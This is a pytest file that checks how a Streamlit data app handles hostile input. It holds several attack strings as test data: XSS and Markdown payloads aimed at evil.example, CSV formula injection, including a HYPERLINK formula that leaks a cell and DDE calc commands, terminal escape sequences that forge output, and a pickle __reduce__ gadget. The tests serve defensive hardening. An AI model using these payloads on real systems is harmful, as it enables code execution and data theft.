"""Broken and hostile input: a located message, never a traceback, nothing executed, nothing lost."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import os
import pickle
import re
import resource
import stat
import subprocess
import sys
import tracemalloc
import typing
from pathlib import Path

import pytest
import yaml
from builders import base, dump, elements, open_page
from conftest import PROJECT_ROOT
from openpyxl import load_workbook
from pydantic import BaseModel
from streamlit.runtime.state.query_params import QueryParams
from streamlit.testing.v1 import AppTest
from test_properties import drawn_raw

from landscape import links, widgets
from landscape import snapshot as prepared_snapshot
from landscape.__main__ import main as cli_main
from landscape.export import rows_as_xlsx
from landscape.frames import Selection, build_frames
from landscape.links import LINK_CAP_FIELDS, link_cap_script
from landscape.load import load_dataset
from landscape.names import check_visible
from landscape.package import package_files
from landscape.schema import Citation, Condition, Landscape, ReviewedSentence
from landscape.views import explorer_view, timeline_view
from landscape.yamlfile import MAX_KEPT_PROBLEMS, DataFileError, Problem

ENTRY = str(Path(__file__).parent / "app" / "entry.py")
BAD = sorted((Path(__file__).parent / "fixtures" / "bad").glob("*.yaml"))
PWNED = Path("/tmp/landscape-pwned")


def expectation(path: Path) -> str:
    return path.read_text(encoding="utf-8").rsplit("# expect: ", 1)[1].strip()


@pytest.mark.parametrize("fixture", BAD, ids=[path.stem for path in BAD])
def test_validator_gives_a_located_message_and_exit_1(fixture, capsys):
    """The command's own main(), in this process (an exception would fail the test); the subprocess tests below cover crashes."""
    PWNED.unlink(missing_ok=True)
    assert cli_main(["validate", str(fixture)]) == 1
    stderr = capsys.readouterr().err
    located = [line for line in stderr.splitlines() if re.match(rf"{re.escape(str(fixture))}:\d+:\d+: ", line)]
    assert located, stderr
    assert any(expectation(fixture) in line for line in located), stderr
    assert not PWNED.exists()


def test_the_validate_command_exits_1_without_a_traceback():
    fixture = next(path for path in BAD if path.stem == "python_object_tag")
    result = subprocess.run([sys.executable, "-m", "landscape", "validate", str(fixture)], cwd=PROJECT_ROOT, capture_output=True, text=True)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert re.match(rf"{re.escape(str(fixture))}:\d+:\d+: .*{re.escape(expectation(fixture))}", result.stderr)


@pytest.mark.parametrize("fixture", BAD, ids=[path.stem for path in BAD])
def test_app_started_on_bad_data_shows_an_error_page(monkeypatch, fixture):
    monkeypatch.setenv("LANDSCAPE_DATA", str(fixture))
    app = AppTest.from_file(ENTRY, default_timeout=60).run()
    assert not app.exception
    assert "cannot be shown" in app.error[0].value
    assert expectation(fixture) in app.code[0].value
    assert not app.metric and not app.dataframe  # no half-loaded data


def test_alias_bomb_is_refused_with_bounded_memory():
    bomb = next(path for path in BAD if path.stem == "billion_laughs")
    tracemalloc.start()
    with pytest.raises(DataFileError):
        load_dataset(bomb)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20 * 1024 * 1024


def test_oversize_file_is_refused_before_parsing(tmp_path):
    huge = tmp_path / "huge.yaml"
    with huge.open("wb") as handle:
        handle.truncate(50 * 1024 * 1024)  # 50 MB of NUL bytes: parsing it would fail differently
    with pytest.raises(DataFileError) as raised:
        load_dataset(huge)
    [problem] = raised.value.problems
    assert "50.0 MiB, over the 32 MiB" in problem.message and "split or trim" in problem.message


def test_injected_markup_is_kept_as_text_and_loads(tmp_path):
    dataset = load_dataset(Path(__file__).parent / "fixtures" / "injection.yaml")
    assert "<script>" in dataset.landscape.parties[0].name


def snapshot(folder: Path) -> dict[str, tuple[str, int]]:
    return {str(path): (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns) for path in sorted(folder.rglob("*")) if path.is_file()}


def test_a_session_over_every_page_writes_nothing_to_data_or_seeds():
    before = {folder: snapshot(PROJECT_ROOT / folder) for folder in ("data", "seeds")}
    app = AppTest.from_file(ENTRY, default_timeout=60)
    app.query_params["party"] = ["russia"]
    app.run()
    for page in ("matrix", "timeline", "sources", "positions"):
        app.switch_page(f"../../pages/{page}.py").run()
        assert not app.exception
    after = {folder: snapshot(PROJECT_ROOT / folder) for folder in ("data", "seeds")}
    assert after == before


def live_app(monkeypatch, tmp_path, small_yaml) -> tuple[Path, AppTest]:
    """The app running on a data file of its own (live.yaml, the small data set), for tests that change it under the app."""
    path = tmp_path / "live.yaml"
    path.write_text(small_yaml, encoding="utf-8")
    monkeypatch.setenv("LANDSCAPE_DATA", str(path))
    app = AppTest.from_file(ENTRY, default_timeout=60).run()
    assert app.metric[0].value == "1"  # one position, drawn
    return path, app


def test_editing_the_file_while_running_errors_then_recovers(monkeypatch, tmp_path, small_yaml):
    path, app = live_app(monkeypatch, tmp_path, small_yaml)

    def edit(text: str, stamp: int) -> None:
        path.write_text(text, encoding="utf-8")
        os.utime(path, ns=(stamp, stamp))  # a distinct modification time, whatever the clock's resolution

    edit(small_yaml.replace("stance: opposes", "stance: nope"), 2_000_000_000_000_000_000)
    app.run()
    assert not app.exception and "cannot be shown" in app.error[0].value and not app.metric
    fixed = small_yaml.replace(
        "positions:\n",
        "positions:\n  - id: p0\n    party: russia\n    issue: sanctions\n    stance: supports\n"
        '    summary: x.\n    as_of: 2025\n    attribution: reported\n    certainty: firm\n    citations: [{source: dp, quote: "Russia now has"}]\n',
    )
    edit(fixed, 2_000_000_001_000_000_000)
    app.run()
    assert not app.exception and not app.error
    assert app.metric[0].value == "2"


def validate(path: Path, *, timeout: float = 300, memory_limit: int | None = None) -> subprocess.CompletedProcess:
    """Run `validate` on path in a subprocess, optionally with its address space capped (the timeout only ends a hang)."""

    def cap() -> None:
        if memory_limit:
            resource.setrlimit(resource.RLIMIT_AS, (memory_limit, memory_limit))

    return subprocess.run(
        [sys.executable, "-m", "landscape", "validate", str(path)],
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=cap,
    )


def assert_refused(result: subprocess.CompletedProcess, path: Path, message: str) -> None:
    assert result.returncode == 1, (result.returncode, result.stderr[-2000:])
    assert "Traceback" not in result.stderr
    located = [line for line in result.stderr.splitlines() if re.match(rf"{re.escape(str(path))}:\d+:\d+: ", line)]
    assert any(message in line for line in located), result.stderr[-2000:]


@pytest.mark.parametrize("depth", [600, 25_000])
def test_deep_nesting_is_refused_before_the_parser_recurses(tmp_path, depth):
    """25,000 nested '[' used to crash the process in the C composer (exit 139); 600 gave a RecursionError."""
    path = tmp_path / "deep.yaml"
    path.write_text("schema_version: 1\nquestions: " + "[" * depth, encoding="utf-8")
    assert_refused(validate(path), path, "nested more than 32 levels deep")


def test_many_tiny_values_are_refused_in_bounded_time_and_memory(tmp_path):
    """31 MB of `x: [0,0,...]` (16 million values) used to peak at 10 GB while composing."""
    path = tmp_path / "tiny.yaml"
    path.write_text("x: [" + "0," * (15_500_000) + "0]\n", encoding="utf-8")
    result = validate(path, memory_limit=1024 * 1024 * 1024)
    assert_refused(result, path, "more than 1,000,000 values")


@pytest.mark.parametrize("kind", ["symlink to /dev/zero", "/dev/zero itself", "fifo", "symlink out of the folder"])
def test_only_regular_files_inside_their_folder_are_read(tmp_path, kind):
    path = tmp_path / "data" / "positions.yaml"
    path.parent.mkdir()
    if kind == "symlink to /dev/zero":
        path.symlink_to("/dev/zero")
        expected = "outside its folder"
    elif kind == "/dev/zero itself":
        path = Path("/dev/zero")
        expected = "not a regular file"
    elif kind == "fifo":
        os.mkfifo(path)  # no writer: a blocking open would hang forever
        expected = "not a regular file"
    else:
        (tmp_path / "elsewhere.yaml").write_text("schema_version: 1\n", encoding="utf-8")
        path.symlink_to(tmp_path / "elsewhere.yaml")
        expected = "outside its folder"
    assert_refused(validate(path, timeout=120), path, expected)  # a blocking open would hang: the timeout ends it


def test_a_symlink_inside_its_folder_is_followed(tmp_path, small_yaml):
    (tmp_path / "real.yaml").write_text(small_yaml, encoding="utf-8")
    (tmp_path / "positions.yaml").symlink_to(tmp_path / "real.yaml")
    assert load_dataset(tmp_path / "positions.yaml").landscape.positions


def test_the_app_keeps_its_error_page_while_the_file_is_replaced_by_hostile_ones_and_recovers(monkeypatch, tmp_path, small_yaml):
    path, app = live_app(monkeypatch, tmp_path, small_yaml)

    def replace(make) -> None:
        staged = tmp_path / "staged.yaml"
        staged.unlink(missing_ok=True)
        make(staged)
        os.replace(staged, path)  # as a deploy does: a new file under the old name

    hostile = {
        "nested 25,000 deep": (lambda p: p.write_text("x: " + "[" * 25_000, encoding="utf-8"), "nested more than 32 levels"),
        "a FIFO": (os.mkfifo, "not a regular file"),
        "a link to /dev/zero": (lambda p: p.symlink_to("/dev/zero"), "outside its folder"),
        "schema_version: !!bool maybe": (lambda p: p.write_text("schema_version: !!bool maybe\n", encoding="utf-8"), "is not a valid !!bool"),
        "a party named Group": (lambda p: p.write_text(small_yaml.replace("name: Russia", "name: Group"), encoding="utf-8"), "may not be named 'Group'"),
    }
    for what, (make, message) in hostile.items():
        replace(make)
        app.run()
        assert not app.exception, what
        assert "cannot be shown" in app.error[0].value and message in app.code[0].value, what
        assert not app.metric, what
    replace(lambda p: p.write_text(small_yaml, encoding="utf-8"))
    app.run()
    assert not app.exception and not app.error
    assert app.metric[0].value == "1"


# --- safe at a public link, by construction (issue #27) ----------------------------------------------------------

INJECTION = Path(__file__).parent / "fixtures" / "injection.yaml"


ARTICLES_OWN_WORDS = {(Condition, "text"), (ReviewedSentence, "sentence")}


def curated_text_fields(model=None, path=()) -> list[tuple[str, ...]]:
    """Every free-text field of the schema a curator writes (the ones checked for hidden characters), as a path of
    field names; '*' for each item of a list. The articles' own words are left out: quotes, a condition's words and
    a reviewed sentence's first words must stand in the article."""
    model = model or Landscape
    found = []
    for name, info in model.model_fields.items():
        annotation = info.annotation
        candidates = [annotation, *typing.get_args(annotation)]
        nested = [c for c in candidates if isinstance(c, type) and issubclass(c, BaseModel)]
        lists = [typing.get_args(c)[0] for c in candidates if typing.get_origin(c) is list]
        if lists and isinstance(lists[0], type) and issubclass(lists[0], BaseModel):
            if lists[0] is not Citation:
                found += curated_text_fields(lists[0], (*path, name, "*"))
        elif nested:
            found += curated_text_fields(nested[0], (*path, name))
        elif (model, name) in ARTICLES_OWN_WORDS:
            continue
        elif any(getattr(meta, "func", None) is check_visible for meta in info.metadata) or checked_visible(annotation):
            found.append((*path, name, "*") if lists else (*path, name))
    return found


def checked_visible(annotation) -> bool:
    """Whether a type (inside a list, an optional or an Annotated) is checked by landscape.names.check_visible."""
    metadata = getattr(annotation, "__metadata__", ()) if typing.get_origin(annotation) is typing.Annotated else ()
    if any(getattr(meta, "func", None) is check_visible for meta in metadata):
        return True
    return any(checked_visible(argument) for argument in typing.get_args(annotation))


def values_at(data, path) -> list:
    if not path:
        return [data]
    head, rest = path[0], path[1:]
    if head == "*":
        return [value for item in data for value in values_at(item, rest)]
    return values_at(data[head], rest) if isinstance(data, dict) and data.get(head) is not None else []


def test_every_curated_text_field_of_the_schema_is_hostile_in_the_injection_fixture():
    """The hostile-field tests (here and in the browser) cover every field: a new field must join injection.yaml."""
    data = yaml.safe_load(INJECTION.read_text(encoding="utf-8"))
    fields = curated_text_fields()
    assert ("parties", "*", "name") in fields and ("sources", "*", "outlet", "value") in fields and ("figures", "*", "unit") in fields
    assert ("parties", "*", "speakers", "*") in fields and ("sources", "*", "title", "note") in fields
    missing = []
    for path in fields:
        if path == ("sources", "*", "url", "value"):  # a checked http(s) address, drawn percent-encoded (test_markdown)
            continue
        values = values_at(data, path)
        if not values or not all("evil" in str(value) for value in values):
            missing.append(".".join(path))
    assert not missing, f"curated text fields without a hostile value in injection.yaml: {missing}"


def test_the_reader_link_label_escapes_the_outlet(monkeypatch):
    """'Read in context: {outlet}' is a button's or page link's label, which Streamlit draws as Markdown."""
    labels = []
    monkeypatch.setattr(links, "reader_link", lambda source, cite, label="": labels.append(label))
    monkeypatch.setattr(widgets.st, "markdown", lambda *args, **kwargs: None)
    widgets.cited_quote("a quote", "dp", 0, "Outlet ![o](http://evil.example/o.png) <img src=x>")
    [label] = labels
    assert "![o](http" not in label.replace("\u2060", "") and "\\!\\[o\\]\\(http" in label and "\\<img" in label


# What the injection fixture's payloads look like where they would be live: in Markdown (labels, headings,
# captions, notices, dialog titles, page links, buttons) unless backslash-escaped; in HTML (st.html) and Plotly at all.
MARKDOWN_LIVE = (
    "![",
    "](http://evil",
    "](https://evil",
    "](javascript",
    "<img",
    "<script",
    "<iframe",
    "<svg",
    "<style",
    "<link",
    "<a ",
    "<b ",
    "<span",
    "<div",
)
HTML_LIVE = (
    "<img",
    "<script>alert",
    "<script>window",
    "<iframe",
    "<svg",
    "<style>body",
    "<link",
    "<a href=http",
    '<a href="data',
    "<b onmouseover",
    '<span style="background',
    '<div style="background',
)
# Drawn as plain text, never read as markup: a data grid's cells and headers (a canvas), a code block, a select box's options.
PLAIN_GRIDS = ("dataframe", "arrow_data_frame", "code")  # and a code block: text in <pre>
PLAIN_CHOICES = ("multiselect", "selectbox")


def proto_strings(message, name: str = "") -> typing.Iterator[tuple[str, str]]:
    """(field name, text) of every string in a protobuf message, nested messages and lists included."""
    for field, value in message.ListFields():
        values = value if isinstance(value, (list, tuple)) or type(value).__name__.startswith("Repeated") else [value]
        for item in values:
            if isinstance(item, str):
                yield field.name, item
            elif hasattr(item, "ListFields"):
                yield from proto_strings(item, field.name)


def live_markup(app: AppTest) -> list[tuple[str, str, str]]:
    """Every injected payload drawn where it is live: (element kind, field, payload), over the whole page tree (dialogs too)."""
    found = []
    for node in elements(app._tree):
        proto = getattr(node, "proto", None)
        if proto is None or not hasattr(proto, "ListFields"):
            continue
        kind = getattr(node, "type", type(node).__name__)
        for field, text in proto_strings(proto):
            if kind in PLAIN_GRIDS or (kind in PLAIN_CHOICES and field not in ("label", "help", "placeholder")):
                continue
            if field == "spec":  # Plotly's JSON writes "<" as \\u003c: read it as the browser will
                text = json.dumps(json.loads(text), ensure_ascii=False)
            html_like = kind in ("html", "plotly_chart")  # every other text Streamlit draws is Markdown or plain
            for payload in HTML_LIVE if html_like else MARKDOWN_LIVE:
                if (payload in text) if html_like else drawn_raw(payload, text):
                    found.append((kind, field, payload))
    return found


INJECTION_VIEWS = (
    ("overview", {}),
    ("matrix", {}),
    ("matrix", {"cell": "sanctions/russia"}),
    ("matrix", {"as_of": "2025-08-06"}),
    ("common_ground", {}),
    ("timeline", {"period": "All dates"}),
    ("sources", {}),
    ("sources", {"section": "Compare on questions"}),
    ("sources", {"read": "dp", "cite": "0"}),
    ("positions", {}),
    ("about", {}),
)


@pytest.mark.parametrize(("page", "query"), INJECTION_VIEWS, ids=[f"{page}{'?' + '&'.join(query) if query else ''}" for page, query in INJECTION_VIEWS])
def test_every_view_of_the_all_hostile_fixture_draws_no_payload_live(monkeypatch, page, query):
    """AppTest over every page, the cell dialog, the replay, the reader and the comparison on the fixture whose every curated text is hostile."""
    monkeypatch.setenv("LANDSCAPE_DATA", str(INJECTION))
    app = open_page(page, query)
    assert not app.exception and not app.error
    assert "evil" in "\n".join(
        text
        for node in elements(app._tree)
        if getattr(node, "proto", None) is not None and hasattr(node.proto, "ListFields")
        for _field, text in proto_strings(node.proto)
    )
    assert live_markup(app) == []


def test_the_live_markup_check_finds_an_unescaped_label(monkeypatch):
    """The check above is not blind: the reader link's label without plain() is found."""
    monkeypatch.setattr(widgets, "plain", lambda text: str(text))
    monkeypatch.setenv("LANDSCAPE_DATA", str(INJECTION))
    assert ("page_link", "label", "![") in live_markup(open_page("matrix", {"cell": "sanctions/russia"}))


def test_the_timeline_hover_escapes_the_outlet():
    frames = build_frames(load_dataset(INJECTION))
    figure = timeline_view(frames, Selection(), "all").figure
    hovers = [str(text) for trace in figure.data if trace.customdata is not None for text in trace.customdata]
    assert hovers and all("<img" not in text and "&lt;img src=http://evil.example/o.png&gt;" in text for text in hovers if "Defense" in text)


# Output that cannot forge: control and format characters escaped, long values cut with their length, problems capped.


def test_an_unknown_key_with_terminal_escapes_and_a_newline_is_printed_escaped_on_one_line(tmp_path, small_yaml):
    path = tmp_path / "escapes.yaml"
    path.write_text(small_yaml + '"\\e]0;pwned\\a\\e[31mred\\u202e\\nforged.yaml:1:1: all good": 1\n', encoding="utf-8")
    result = validate(path)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "\u202e" not in result.stderr
    [line] = [line for line in result.stderr.splitlines() if "unknown field" in line]
    assert "\\x1b]0;pwned\\x07\\x1b[31mred\\u202e\\nforged.yaml:1:1: all good: unknown field" in line
    assert not any(line.startswith("forged.yaml") for line in result.stderr.splitlines())


def test_a_megabyte_long_unknown_key_is_cut_with_its_length_in_the_terminal_and_on_the_error_page(tmp_path, small_yaml, monkeypatch):
    path = tmp_path / "long-key.yaml"
    path.write_text(small_yaml + "? " + "k" * 1_000_000 + "\n: 1\n", encoding="utf-8")  # an explicit key: no 1,024-character limit
    result = validate(path)
    assert result.returncode == 1 and len(result.stderr) < 2_000, len(result.stderr)
    assert "(1,000,000 characters)" in result.stderr and "unknown field" in result.stderr
    monkeypatch.setenv("LANDSCAPE_DATA", str(path))
    app = AppTest.from_file(ENTRY, default_timeout=60).run()
    assert "cannot be shown" in app.error[0].value
    assert len(app.code[0].value) < 2_000 and "(1,000,000 characters)" in app.code[0].value


def test_490000_unknown_keys_keep_200_problems_a_count_of_the_rest_and_bounded_memory(tmp_path):
    """All were kept: 914 MB to validate. Now the YAML's own values are most of it (the 1,000,000-value cap bounds them)."""
    path = tmp_path / "many-keys.yaml"
    path.write_text((PROJECT_ROOT / "data" / "positions.yaml").read_text(encoding="utf-8") + "".join(f"k{i}: 1\n" for i in range(490_000)), encoding="utf-8")
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            "import resource, runpy, sys; sys.argv = ['landscape', 'validate', sys.argv[1]]\n"
            "try:\n    runpy.run_module('landscape', run_name='__main__')\nexcept SystemExit as done:\n"
            "    print('peak', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, file=sys.stderr); raise",
            str(path),
        ],
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1, result.stderr[-2000:]
    lines = result.stderr.splitlines()
    assert sum(1 for line in lines if "unknown field" in line) == 200
    assert "... and 489,800 more." in lines and "490,000 problems found." in lines
    peak = int(lines[-1].split()[1])
    assert peak < 600, f"{peak} MB"


def test_problems_past_the_cap_are_counted_not_kept():
    error = DataFileError([Problem("f.yaml", line, 1, "x") for line in range(1, 1001)], more=5)
    assert len(error.problems) == MAX_KEPT_PROBLEMS == 200 and error.more == 805 and error.count == 1005
    assert str(error).endswith("... and 805 more.")


# Files and folders.


def test_a_folder_as_the_data_file_is_refused_without_a_traceback_or_a_leaked_descriptor(tmp_path):
    folder = tmp_path / "positions.yaml"
    folder.mkdir()
    assert_refused(validate(folder), folder, "is a folder, not a YAML file")
    before = len(os.listdir("/proc/self/fd"))
    for _ in range(60):  # "Too many open files" came after 36 views
        with pytest.raises(DataFileError):
            load_dataset(folder)
    assert len(os.listdir("/proc/self/fd")) == before


def test_an_edit_that_keeps_size_and_modification_time_is_seen_by_the_running_app(monkeypatch, tmp_path, small_yaml):
    path, app = live_app(monkeypatch, tmp_path, small_yaml)
    info = path.stat()
    edited = small_yaml.replace("stance: opposes", "stance: nopes!!")  # the same size
    assert len(edited.encode()) == info.st_size
    path.write_text(edited, encoding="utf-8")
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))  # the modification time set back
    assert (path.stat().st_size, path.stat().st_mtime_ns) == (info.st_size, info.st_mtime_ns)
    app.run()
    assert not app.exception and "cannot be shown" in app.error[0].value and "positions.0.stance" in app.code[0].value


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o755])
def test_an_existing_cache_folder_is_never_chmod_ed(tmp_path, monkeypatch, small_yaml, mode):
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, mode)
    monkeypatch.setenv("LANDSCAPE_CACHE", str(shared))
    data = tmp_path / "positions.yaml"
    data.write_text(small_yaml, encoding="utf-8")
    prepared_snapshot.load_prepared(data)
    assert stat.S_IMODE(shared.stat().st_mode) == mode
    written = sorted(child.name for child in shared.iterdir())
    if mode & 0o022:  # others may write there: not used at all
        assert written == []
    else:  # ours and private enough: used, as it is
        assert prepared_snapshot.INSTALL_KEY in written


# Downloads.


def test_the_data_package_csvs_never_hold_a_live_formula(tmp_path):
    data = base()
    data["positions"][0]["summary"] = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    data["parties"][0]["name"] = "+cmd|' /C calc'!A0"
    data["events"][0]["title"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path = tmp_path / "positions.yaml"
    path.write_text(dump(data), encoding="utf-8")
    files = package_files(load_dataset(path))
    cells = [cell for name, text in files.items() if name.endswith(".csv") for row in csv.reader(io.StringIO(text)) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in cells and "'+cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], "a cell a spreadsheet would run"


def test_a_control_character_that_broke_the_excel_download_is_refused_at_its_place(tmp_path):
    data = base()
    data["positions"][0]["summary"] = "A summary with a form feed\x0c and a bell\x07."
    path = tmp_path / "positions.yaml"
    path.write_text(dump(data), encoding="utf-8")
    with pytest.raises(DataFileError) as raised:
        load_dataset(path)
    [problem] = raised.value.problems
    assert "positions.0.summary" in problem.message and "U+000C" in problem.message


def test_the_explorers_excel_download_holds_the_hostile_fixture():
    frames = build_frames(load_dataset(INJECTION))
    rows = explorer_view(frames, Selection(), (), (), "")
    sheet = load_workbook(io.BytesIO(rows_as_xlsx(rows, frames, "http://app"))).active
    assert any("evil.example" in str(cell.value) for row in sheet.iter_rows() for cell in row)


# The command line.


def test_synth_at_a_scale_that_cannot_fit_is_refused_at_once(tmp_path):
    out = tmp_path / "huge.yaml"
    result = subprocess.run(
        [sys.executable, "-m", "landscape", "synth", "--scale", "100000", "--out", str(out)], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "--scale 100000: give a whole number from 1 to 300" in result.stderr and not out.exists()


def test_synth_never_writes_over_a_file(tmp_path):
    curated = tmp_path / "positions.yaml"
    curated.write_text("curated: true\n", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "landscape", "synth", "--scale", "1", "--out", str(curated)], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 2 and "already exists" in result.stderr and "Traceback" not in result.stderr
    assert curated.read_text(encoding="utf-8") == "curated: true\n"


def test_package_out_over_an_existing_file_is_refused_with_a_message(tmp_path):
    existing = tmp_path / "a-file"
    existing.write_text("x", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "landscape", "package", "--out", str(existing)], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 2 and "is a file, not a folder" in result.stderr and "Traceback" not in result.stderr
    assert existing.read_text(encoding="utf-8") == "x"


def test_brief_echoes_unknown_ids_escaped(capsys):
    assert cli_main(["brief", "--party", "nobody\x1b[2J\nforged"]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "nobody\\x1b[2J\\nforged" in err and len(err.splitlines()) == 1


# The snapshot: nothing unpickled that this install did not sign.


class _Planted:
    def __reduce__(self):
        return (PWNED.write_text, ("ran",))


@pytest.mark.parametrize("how", ["unsigned pickle", "signed with another key", "one byte changed", "old format"])
def test_a_snapshot_not_signed_by_this_install_is_never_unpickled(tmp_path, monkeypatch, small_yaml, how):
    folder = tmp_path / "cache"
    monkeypatch.setenv("LANDSCAPE_CACHE", str(folder))
    data = tmp_path / "positions.yaml"
    data.write_text(small_yaml, encoding="utf-8")
    prepared_snapshot.load_prepared(data)  # the folder, its key and a good snapshot
    target, key = prepared_snapshot.snapshot_path(data, folder), prepared_snapshot.snapshot_key(data)
    assert prepared_snapshot.read_snapshot(target, key) is not None
    payload = key.encode() + b"\n" + pickle.dumps(_Planted())
    if how == "unsigned pickle":
        planted = pickle.dumps((key, _Planted()))
    elif how == "signed with another key":
        planted = prepared_snapshot.MAGIC + hmac.new(b"another install" * 3, payload, hashlib.sha256).digest() + payload
    elif how == "one byte changed":
        good = target.read_bytes()
        planted = good[:-40] + bytes([good[-40] ^ 1]) + good[-39:]
    else:
        planted = b"\x80\x05" + pickle.dumps((key, _Planted()))[2:]
    target.write_bytes(planted)
    os.chmod(target, 0o600)
    PWNED.unlink(missing_ok=True)
    assert prepared_snapshot.read_snapshot(target, key) is None
    assert not PWNED.exists()
    prepared_snapshot.load_prepared(data)  # validated anew and rewritten
    assert not PWNED.exists() and prepared_snapshot.read_snapshot(target, key) is not None


# The link.


def test_hundreds_of_unknown_link_parameters_are_dropped_in_one_step(monkeypatch):
    sent = []
    real = QueryParams._send_query_param_msg
    monkeypatch.setattr(QueryParams, "_send_query_param_msg", lambda self: sent.append(1) or real(self))
    app = AppTest.from_file(ENTRY, default_timeout=60)
    for index in range(999):
        app.query_params[f"junk{index}"] = "1"
    app.query_params["party"] = "russia"
    app.run()
    assert not app.exception
    assert not [name for name in app.query_params if name.startswith("junk")]
    assert len(sent) <= 3, len(sent)  # was 999: one per name, each pushing the rest of the link to the browser
    [notice] = [info.value for info in app.main.info if "Ignored from the link" in info.value]
    assert "and 994 more" in notice


def test_the_link_cap_script_holds_no_data_and_no_angle_bracket_inside():
    script = link_cap_script()
    body = script.removeprefix("<script>").removesuffix("</script>")
    assert "<" not in body and str(LINK_CAP_FIELDS) in body


def test_the_reader_link_label_falls_back_to_the_hostile_title_escaped_when_the_outlet_is_unknown(monkeypatch, tmp_path):
    data = yaml.safe_load(INJECTION.read_text(encoding="utf-8"))
    data["sources"][0]["outlet"] = {"value": None, "basis": "unknown"}
    path = tmp_path / "no-outlet.yaml"
    path.write_text(dump(data), encoding="utf-8")
    monkeypatch.setenv("LANDSCAPE_DATA", str(path))
    app = open_page("matrix", {"cell": "sanctions/russia"})
    labels = [node.proto.label for node in elements(app._tree) if getattr(node, "type", "") == "page_link"]
    assert any("Read in context: \\<script\\>alert" in label and "evil" in label for label in labels), labels
    assert live_markup(app) == []


def test_the_link_notice_escapes_control_characters_and_states_a_cut_values_length():
    app = open_page("overview", {"party": ["x" * 5000, "red\x1b[31m\u202e"], "junk\nline": "1"})
    [notice] = [info.value for info in app.main.info if "Ignored from the link" in info.value]
    shown = notice.replace("\\", "")
    assert "(5,000 characters)" in shown and "x1b[31mu202e" in shown and "junknline" in shown
    assert "\x1b" not in notice and "\u202e" not in notice and "\n" not in notice


def test_coverage_echoes_an_unknown_source_escaped(capsys):
    assert cli_main(["coverage", "--source", "x\x1b]0;pwned\x07\nforged"]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "x\\x1b]0;pwned\\x07\\nforged" in err and len(err.splitlines()) == 1
